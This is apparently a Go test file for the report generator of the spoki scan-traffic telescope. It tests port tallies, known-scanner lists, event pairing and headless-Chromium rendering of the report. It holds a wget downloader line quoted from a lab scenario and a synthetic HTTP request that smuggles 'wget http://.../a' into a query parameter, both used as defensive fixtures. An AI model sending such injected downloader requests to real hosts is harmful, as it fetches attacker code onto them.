package report

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"html"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/analysis/assemble"
)

// exampleAssembled runs assemble (flush at EOF) over the example logs into a
// temporary directory and returns it with the log directory.
func exampleAssembled(t *testing.T) (outDir, logDir string) {
	t.Helper()
	logDir = filepath.Join("..", "..", "records", "testdata", "spoki-example-logs")
	if _, err := os.Stat(logDir); err != nil {
		t.Fatalf("example logs: %v", err)
	}
	outDir = t.TempDir()
	sink := &assemble.FileSink{Dir: outDir, Tag: "test"}
	cfg := assemble.Config{Dir: logDir, Tag: "test", Start: time.Date(2021, 10, 13, 21, 0, 0, 0, time.UTC), FlushAtEOF: true}
	if err := assemble.Run(context.Background(), cfg, sink, &assemble.Stats{}); err != nil {
		t.Fatal(err)
	}
	if len(sink.Written) == 0 {
		t.Fatal("assemble wrote no files")
	}
	return outDir, logDir
}

// textBars parses the text report into chart id → label → value text, the
// form the page shows beside each bar.
func textBars(t *testing.T, text string) map[string]map[string]string {
	t.Helper()
	out := map[string]map[string]string{}
	section := ""
	portRow := regexp.MustCompile(`^(\d+), (\d+), ([0-9.]+)%$`)
	namedRow := regexp.MustCompile(`^(\S+): (\d+)(?: \(([0-9.]+)%\))?$`)
	for _, line := range strings.Split(text, "\n") {
		switch {
		case strings.HasPrefix(line, "# "):
			switch {
			case strings.HasSuffix(line, "(rs)"):
				section = "ports-rs"
			case strings.HasSuffix(line, "(is)"):
				section = "ports-is"
			case strings.HasSuffix(line, "(tp)"):
				section = "ports-tp"
			case strings.HasPrefix(line, "# contact types"):
				section = "contact-types"
			case strings.HasPrefix(line, "# delay"):
				section = "delay"
			}
			out[section] = map[string]string{}
		case strings.HasPrefix(section, "ports-"):
			if m := portRow.FindStringSubmatch(line); m != nil {
				out[section][m[1]] = m[2] + " (" + m[3] + "%)"
			}
		case section == "contact-types" || section == "delay":
			if m := namedRow.FindStringSubmatch(line); m != nil {
				if m[3] != "" {
					out[section][m[1]] = m[2] + " (" + m[3] + "%)"
				} else {
					out[section][m[1]] = m[2]
				}
			}
		}
	}
	return out
}

// domBars parses the DOM that Chromium dumps after the script ran.
func domBars(t *testing.T, dom string) map[string]map[string]string {
	t.Helper()
	row := regexp.MustCompile(`<g class="bar-row" data-chart="([^"]+)" data-label="([^"]*)" data-value="(\d+)">.*?<text class="value"[^>]*>([^<]*)</text></g>`)
	out := map[string]map[string]string{}
	for _, m := range row.FindAllStringSubmatch(dom, -1) {
		id, label, value, text := m[1], html.UnescapeString(m[2]), m[3], html.UnescapeString(m[4])
		if !strings.HasPrefix(text, value) {
			t.Errorf("bar %s/%s: data-value %s but text %q", id, label, value, text)
		}
		if out[id] == nil {
			out[id] = map[string]string{}
		}
		out[id][label] = text
	}
	return out
}

func TestExampleReportRendersInChromium(t *testing.T) {
	outDir, logDir := exampleAssembled(t)
	r, err := Build(context.Background(), Config{RawDir: logDir}, []string{outDir})
	if err != nil {
		t.Fatal(err)
	}
	var text bytes.Buffer
	if err := r.WriteText(&text); err != nil {
		t.Fatal(err)
	}
	t.Logf("text report:\n%s", text.String())
	if r.Records == 0 || r.Errors != 0 || r.Ports[CatTwoPhase].Total == 0 {
		t.Fatalf("Build(example) = %d records, %d errors, %d two-phase; want records, no errors, two-phase",
			r.Records, r.Errors, r.Ports[CatTwoPhase].Total)
	}
	c := r.Contact
	if c.All != c.WithoutAck+c.WithoutPayload+c.WithPayload || c.WithPayload != c.ASCII+c.Hex+c.Downloader {
		t.Errorf("contact types %+v do not add up", c)
	}
	// The lab's test-spoki scenario: wget http://141.22.28.35/evil.
	if c.Downloader == 0 {
		t.Errorf("contact types %+v: want the downloader of 84.46.0.125", c)
	}
	delays := 0
	for _, n := range r.Delays {
		delays += n
	}
	if delays != c.All {
		t.Errorf("delay histogram holds %d events, want the %d two-phase events", delays, c.All)
	}

	want := textBars(t, text.String())
	if len(want["ports-tp"]) == 0 || len(want["contact-types"]) != 8 || len(want["delay"]) != len(delayBins)+1 {
		t.Fatalf("text report parsed to %v, want all sections", want)
	}
	page := filepath.Join(t.TempDir(), "report.html")
	f, err := os.Create(page)
	if err != nil {
		t.Fatal(err)
	}
	if err := r.WriteHTML(f); err != nil {
		t.Fatal(err)
	}
	f.Close()
	raw, _ := os.ReadFile(page)
	// Self-contained: no attribute or rule that loads anything, and no URL
	// but the SVG namespace.
	for _, external := range []string{"src=", "href=", "@import", "url(", "https://"} {
		if bytes.Contains(raw, []byte(external)) {
			t.Errorf("page contains %q: want no external assets", external)
		}
	}
	if n, ns := bytes.Count(raw, []byte("http://")), bytes.Count(raw, []byte("http://www.w3.org/2000/svg")); n != ns {
		t.Errorf("page contains %d URLs besides the SVG namespace, want none", n-ns)
	}

	dom := chromiumDump(t, page)
	if !strings.Contains(dom, `data-rendered="5"`) {
		t.Fatalf("the page's script did not render 5 charts; DOM starts %.500q", dom)
	}
	got := domBars(t, dom)
	for id, rows := range want {
		for label, wantText := range rows {
			if got[id][label] != wantText {
				t.Errorf("chart %s bar %q = %q, want %q (the text table's)", id, label, got[id][label], wantText)
			}
		}
		if len(got[id]) != len(rows) {
			t.Errorf("chart %s has %d bars, the text %d", id, len(got[id]), len(rows))
		}
	}
}

// chromiumDump loads page in headless Chromium and returns the DOM after
// the scripts ran. No network: the page is a local file and every
// background service is off.
func chromiumDump(t *testing.T, page string) string {
	t.Helper()
	bin := "/usr/bin/chromium"
	if _, err := os.Stat(bin); err != nil {
		if p, lerr := exec.LookPath("chromium"); lerr == nil {
			bin = p
		} else if os.Getenv("CI") == "true" {
			t.Fatal("chromium is not installed (.ci/run installs it)")
		} else {
			t.Skip("chromium is not installed (apt-get install -y chromium)")
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
		"--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--disable-dev-shm-usage", "--user-data-dir="+t.TempDir(), "--dump-dom", "file://"+page)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("chromium --dump-dom: %v\n%s", err, stderr.String())
	}
	return stdout.String()
}

func TestTop(t *testing.T) {
	var p Ports
	for _, port := range []int{80, 23, 23, 443, 80, 22, 22} {
		p.add(port)
	}
	got := fmt.Sprint(p.Top(3))
	// Ties keep first-seen order: 80 before 23 before 22.
	want := "[{80 2 28.57} {23 2 28.57} {22 2 28.57}]"
	if got != want {
		t.Errorf("Top(3) = %s, want %s", got, want)
	}
}

func TestPyFloat(t *testing.T) {
	tests := []struct {
		name string
		in   float64
		want string
	}{
		{"whole", 50, "50.0"},
		{"two decimals", 33.33, "33.33"},
		{"zero", 0, "0.0"},
		{"hundred", 100, "100.0"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := pyFloat(tc.in); got != tc.want {
				t.Errorf("pyFloat(%v) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestKnownScanners(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "ips.alpha.txt"), []byte("# research\r\n203.0.113.7\r\n\r\n2001:db8::7\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "ips.beta.txt"), nil, 0o644) // empty: must not stop the loading
	os.WriteFile(filepath.Join(dir, "ips.gamma.txt"), []byte("198.51.100.0/28 # a whole net\n"), 0o644)
	ks, err := LoadKnownScanners(dir)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, addr, want string
	}{
		{"builtin censys", "192.35.169.4", "censys"},
		{"builtin shadowserver", "74.82.47.3", "shadowserver"},
		{"list with CRLF", "203.0.113.7", "alpha"},
		{"ipv6 in list", "2001:db8::7", "alpha"},
		{"after an empty list", "198.51.100.9", "gamma"},
		{"unknown", "198.51.100.99", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, _ := ks.Lookup(netip.MustParseAddr(tc.addr))
			if got != tc.want {
				t.Errorf("Lookup(%s) = %q, want %q", tc.addr, got, tc.want)
			}
		})
	}
	if _, err := LoadKnownScanners(filepath.Join(dir, "missing")); err != nil {
		t.Errorf("LoadKnownScanners(missing dir) = %v, want the built-ins", err)
	}
}

func TestEventLogPairing(t *testing.T) {
	base := time.Date(2026, 11, 25, 11, 0, 0, 0, time.UTC)
	syn := func(sec int, src string, sport, dport int, irregular bool) string {
		return fmt.Sprintf(`{"timestamp":%q,"event_type":"syn","src_ip":%q,"src_port":%d,"dest_ip":"192.0.2.1","dest_port":%d,"proto":"TCP","tcp":{"seq":1},"irregular":%v,"scanner":"unknown"}`,
			base.Add(time.Duration(sec)*time.Second).Format(time.RFC3339Nano), src, sport, dport, irregular)
	}
	session := func(src string, sport, dport int, payload string) string {
		return fmt.Sprintf(`{"timestamp":%q,"event_type":"session","src_ip":%q,"src_port":%d,"dest_ip":"192.0.2.1","dest_port":%d,"proto":"TCP","app_proto":"generic","payload":%q}`,
			base.Format(time.RFC3339Nano), src, sport, dport, base64.StdEncoding.EncodeToString([]byte(payload)))
	}
	lines := []string{
		syn(0, "198.51.100.1", 1000, 80, true),  // phase one
		syn(3, "198.51.100.1", 2000, 80, false), // phase two, 3 s later
		session("198.51.100.1", 2000, 80, "GET /x?c=wget+http://203.0.113.9/a HTTP/1.1\r\n\r\n"),
		syn(10, "198.51.100.2", 1000, 23, true), // irregular, never followed
		syn(11, "198.51.100.3", 1000, 22, false),
		syn(20, "198.51.100.4", 1000, 8080, true),
		syn(700, "198.51.100.4", 1001, 8080, false), // too late: irregular + regular
		syn(30, "192.35.168.1", 1, 80, true),        // censys
		syn(40, "198.51.100.5", 1, 443, true),
		syn(100, "198.51.100.5", 2, 443, false), // two-phase without session
		syn(50, "198.51.100.6", 1, 25, true),
		syn(51, "198.51.100.6", 2, 25, false),
		session("198.51.100.6", 2, 25, ""),
		`{"timestamp":"2026-11-25T11:00:00Z","event_type":"stats","packets":1}`,
	}
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "t.events.20261125-11.jsonl"), []byte(strings.Join(lines, "\n")+"\n"), 0o644)
	r, err := Build(context.Background(), Config{}, []string{dir})
	if err != nil {
		t.Fatal(err)
	}
	got := fmt.Sprintf("rs %v is %v tp %v ks %d contact %+v delays %v",
		r.Ports[CatRegular].Counts, r.Ports[CatIrregular].Counts, r.Ports[CatTwoPhase].Counts,
		r.Ports[CatIrregular].KnownScanners, r.Contact, r.Delays)
	want := "rs map[22:1 8080:1] is map[23:1 8080:1] tp map[25:1 80:1 443:1] ks 1 " +
		"contact {All:3 WithoutAck:1 WithoutPayload:1 WithPayload:1 ASCII:0 Hex:0 Downloader:1 Matched:0} " +
		"delays [0 1 1 0 0 0 1 0 0 0]"
	if got != want {
		t.Errorf("Build(event log) =\n%s\nwant\n%s", got, want)
	}
	if r.Source != "event log" {
		t.Errorf("Source = %q, want event log", r.Source)
	}
}
